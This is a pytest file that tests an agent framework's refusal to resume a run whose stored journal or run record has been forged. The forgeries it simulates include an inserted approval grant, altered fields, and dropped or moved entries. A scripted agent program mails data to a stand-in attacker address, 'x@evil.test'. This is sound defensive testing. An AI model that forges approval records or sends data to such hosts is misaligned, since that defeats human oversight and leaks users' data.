"""A store is not believed on its own: every field a resume reads, forged, makes the resume refuse and run nothing.

The fields are walked from the dataclasses (`JournalEntry`, `RunRecord`), not listed by hand: a field added
later is covered, or it must be named in `RECORD_UNSEALED` with the reason the resume never believes it.
"""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Iterator
from dataclasses import fields
from pathlib import Path
from typing import Any

import pytest
from durable_tools import TOOLS, count

from proctor import CodeAgent, InboxApprover, Policy, RunStore, ScriptedModel
from proctor.errors import StoreForged
from proctor.store import ApprovalAnswer, JournalEntry, RunRecord
from proctor.store.seal import RECORD_UNSEALED

PROGRAM = "```py\nn = look(1)\nm = look(2)\nfinal_answer(send('x@evil.test', str(n + m)))\n```"
POLICY = {"version": 1, "default": "deny",
          "rules": [{"name": "reads", "match": {"side_effect": "read"}, "decision": "allow"},
                    {"name": "mail", "match": {"tool": "send"}, "decision": "require_approval", "reason": "human"}]}


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[RunStore, Path, str]]:
    monkeypatch.setenv("DURABLE_COUNTER", str(tmp_path / "effects.jsonl"))
    store = RunStore.open(f"sqlite:///{tmp_path}/runs.db")
    with _agent(store, tmp_path, [PROGRAM]) as agent:
        result = agent.run("mail it", principal="alice")
    assert result.status == "suspended"
    yield store, tmp_path, result.run_id
    store.close()


def _agent(store: RunStore, tmp: Path, responses: list[str]) -> CodeAgent:
    return CodeAgent(TOOLS, ScriptedModel(responses), Policy.from_dict(POLICY),
                     approver=InboxApprover(store, wait="0s"), audit=str(tmp / "audit.jsonl"), store=store,
                     sandbox="process")


def _other(value: Any) -> Any:
    """A value of the same shape that differs from `value`."""
    if isinstance(value, bool):
        return not value
    if isinstance(value, int):
        return value + 1
    if isinstance(value, str):
        return value + "x"
    if isinstance(value, dict):
        return {**value, "forged": 1}
    if isinstance(value, list):
        return [*value, {"tool": "send", "args": {}}]
    return {"tool": "send", "args": {}}  # None: e.g. a grant that was never given


KEYS = {"journal": "run_id || ':' || step || ':' || seq", "runs": "run_id"}


def _rows(db: Path, table: str) -> list[tuple[str, str]]:
    with sqlite3.connect(db) as con:
        return list(con.execute(f"SELECT {KEYS[table]}, data FROM {table} ORDER BY 1"))


def _set(db: Path, table: str, key: str, data: dict[str, Any]) -> None:
    with sqlite3.connect(db) as con:
        con.execute(f"UPDATE {table} SET data = ? WHERE {KEYS[table]} = ?", (json.dumps(data), key))


def _refused(store: RunStore, tmp: Path, run_id: str) -> str:
    with _agent(store, tmp, []) as agent, pytest.raises(StoreForged) as caught:
        agent.resume(run_id)
    assert store.get_run(run_id).status in ("suspended", "running")
    assert [c[0] for c in count(str(tmp / "effects.jsonl"))] == ["look", "look"]  # nothing ran
    return str(caught.value)


def _audited(tmp: Path) -> list[dict[str, Any]]:
    records = [json.loads(line) for line in (tmp / "audit.jsonl").read_text().splitlines()]
    return [r for r in records if r["kind"] == "resume_refused"]


def _approve(store: RunStore) -> None:
    [pending] = store.list_approvals()
    store.answer_approval(pending.id, ApprovalAnswer("approve", "bob"), binding=pending.binding)


def test_the_red_teams_grant_in_a_journal_entry_is_refused(run: tuple[RunStore, Path, str]) -> None:
    store, tmp, run_id = run
    db = tmp / "runs.db"
    rowid, data = _rows(db, "journal")[0]
    _set(db, "journal", rowid, {**json.loads(data), "grant": {"tool": "send", "args": {}}})
    message = _refused(store, tmp, run_id)
    assert run_id in message and "journal entry 0 (look)" in message
    [record] = _audited(tmp)
    assert record["run_id"] == run_id and "journal entry 0" in record["reason"]


@pytest.mark.parametrize("name", [f.name for f in fields(JournalEntry) if f.name != "seal"])
def test_every_journal_field_forged_is_refused(run: tuple[RunStore, Path, str], name: str) -> None:
    store, tmp, run_id = run
    db = tmp / "runs.db"
    for rowid, text in _rows(db, "journal"):
        data = json.loads(text)
        _set(db, "journal", rowid, {**data, name: _other(data.get(name))})
        _refused(store, tmp, run_id)
        _set(db, "journal", rowid, data)
    _approve(store)
    with _agent(store, tmp, []) as agent:  # put back as the run wrote it, the store is believed again
        assert agent.resume(run_id).status == "done"


@pytest.mark.parametrize("name", [f.name for f in fields(RunRecord) if f.name not in RECORD_UNSEALED])
def test_every_run_field_a_resume_reads_forged_is_refused(run: tuple[RunStore, Path, str], name: str) -> None:
    store, tmp, run_id = run
    db = tmp / "runs.db"
    [(rowid, text)] = _rows(db, "runs")
    data = json.loads(text)
    # (a status forged to another resumable one: a finished run set back to `running` must not go on)
    forged = "running" if name == "status" else _other(data.get(name))
    _set(db, "runs", rowid, {**data, name: forged})
    assert "seal does not hold" in _refused(store, tmp, run_id)
    _set(db, "runs", rowid, data)
    _approve(store)
    with _agent(store, tmp, []) as agent:
        assert agent.resume(run_id).status == "done"


def test_a_dropped_moved_or_copied_entry_is_refused(run: tuple[RunStore, Path, str], tmp_path: Path) -> None:
    store, tmp, run_id = run
    db = tmp / "runs.db"
    entries = store.journal(run_id, 1)
    assert [e.state for e in entries] == ["done", "done", "suspended"]
    with sqlite3.connect(db) as con:  # dropped
        con.execute("DELETE FROM journal WHERE run_id = ? AND seq = 1", (run_id,))
    assert "out of place" in _refused(store, tmp, run_id)
    with sqlite3.connect(db) as con:  # the last one dropped: the suspension sealed how many there were
        con.execute("DELETE FROM journal WHERE run_id = ? AND seq = 2", (run_id,))
        con.execute("INSERT INTO journal (run_id, step, seq, data) VALUES (?, 1, 1, ?)",
                    (run_id, json.dumps(entries[1].as_dict())))
    assert "missing" in _refused(store, tmp, run_id)
    with sqlite3.connect(db) as con:  # moved: entry 0's data at position 2
        con.execute("INSERT INTO journal (run_id, step, seq, data) VALUES (?, 1, 2, ?)",
                    (run_id, json.dumps({**entries[0].as_dict()})))
    assert "out of place" in _refused(store, tmp, run_id)
    with sqlite3.connect(db) as con:  # put back
        con.execute("UPDATE journal SET data = ? WHERE run_id = ? AND seq = 2",
                    (json.dumps(entries[2].as_dict()), run_id))
    _approve(store)
    with _agent(store, tmp, []) as agent:
        assert agent.resume(run_id).status == "done"


def test_a_run_without_a_seal_is_refused(run: tuple[RunStore, Path, str]) -> None:
    store, tmp, run_id = run
    db = tmp / "runs.db"
    [(rowid, text)] = _rows(db, "runs")
    _set(db, "runs", rowid, {**json.loads(text), "seal": ""})
    assert "seal does not hold" in _refused(store, tmp, run_id)


def test_another_audit_trail_cannot_vouch_for_the_store(run: tuple[RunStore, Path, str], tmp_path: Path) -> None:
    """The key is the run's audit trail's: an agent given another trail cannot resume (nor forge) the run."""
    store, tmp, run_id = run
    other = tmp / "elsewhere"
    other.mkdir()
    with CodeAgent(TOOLS, ScriptedModel([]), Policy.from_dict(POLICY), approver=InboxApprover(store, wait="0s"),
                   audit=str(other / "audit.jsonl"), store=store, sandbox="process") as agent, \
            pytest.raises(StoreForged, match="seal does not hold"):
        agent.resume(run_id)
